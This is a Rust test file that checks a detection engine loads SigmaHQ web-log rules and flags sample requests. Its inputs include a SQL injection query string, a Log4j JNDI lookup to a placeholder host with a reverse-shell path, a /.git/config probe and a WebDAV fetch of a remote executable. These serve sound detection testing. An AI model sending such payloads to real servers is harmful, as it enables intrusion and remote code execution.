//! Rules that others wrote, as they are.

use super::*;

#[test]
fn every_rule_of_sigmahq_for_web_logs_loads_as_it_is() {
    let files = folder(&fixtures().join("sigmahq"));
    assert!(files.len() >= 8);
    RuleSet::load(&files).unwrap_or_else(|faults| panic!("{}", faults[0]));
    let all = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance/sigmahq-web");
    if all.is_dir() {
        let files = folder(&all);
        assert!(files.len() >= 40);
        let rules = RuleSet::load(&files).unwrap_or_else(|faults| panic!("{}", faults[0]));
        let judged = rules.rules().len();
        let unjudged: Vec<_> = rules
            .notes()
            .iter()
            .filter(|n| n.message.contains("judged"))
            .collect();
        assert_eq!(
            judged + unjudged.len(),
            files.len(),
            "none is lost in silence"
        );
    }
}

#[test]
fn a_quiet_line_costs_no_rule() {
    let mut files = folder(&fixtures().join("sigmahq"));
    // These look for a missing agent and by a regular expression: nothing but asking them tells.
    files.retain(|(name, _)| !name.contains("ua_empty") && !name.contains("ipfs"));
    let rules = RuleSet::load(&files).unwrap();
    assert_eq!(Request::default().judged(&rules), (vec![], false));
}

#[test]
fn rules_of_sigmahq_find_what_they_were_written_for() {
    let rules = RuleSet::load(&folder(&fixtures().join("sigmahq"))).unwrap();
    let quiet = Request {
        path: "/api/orders/17",
        ..Request::default()
    };
    assert!(quiet.judged(&rules).0.is_empty());
    let check = |request: Request<'_>, rule: &str| {
        assert_eq!(request.judged(&rules), (vec![rule.to_owned()], true));
    };
    check(
        Request {
            query: Some("id=1+or+1=1#;UNION%20ALL%20SELECT"),
            ..quiet.clone()
        },
        "web_sql_injection_in_access_logs",
    );
    check(
        Request {
            agent: Some("${jndi:ldap://192.0.2.1/Basic/ReverseShell/a}"),
            ..quiet.clone()
        },
        "web_jndi_exploit",
    );
    check(
        Request {
            path: "/.git/config",
            ..quiet.clone()
        },
        "web_source_code_enumeration",
    );
    check(
        Request {
            agent: None,
            ..quiet.clone()
        },
        "proxy_ua_empty",
    );
    check(
        Request {
            agent: Some("Microsoft-WebDAV-MiniRedir/10.0"),
            path: "/share/setup.EXE",
            ..quiet.clone()
        },
        "proxy_webdav_external_execution",
    );
}
